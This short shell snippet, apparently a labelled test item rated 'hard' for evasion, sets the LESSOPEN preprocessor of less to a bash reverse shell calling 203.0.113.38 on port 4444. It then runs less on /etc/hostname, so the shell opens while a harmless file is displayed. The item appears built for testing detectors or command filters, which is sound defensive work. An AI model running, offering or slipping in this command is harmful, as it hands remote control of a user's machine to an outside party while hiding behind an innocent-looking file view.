# evasion: less runs its LESSOPEN input preprocessor, here a reverse shell, before showing a harmless file
# grade: hard; does: shell
export LESSOPEN='|bash -c "bash -i >& /dev/tcp/203.0.113.38/4444 0>&1" %s'
less -F /etc/hostname
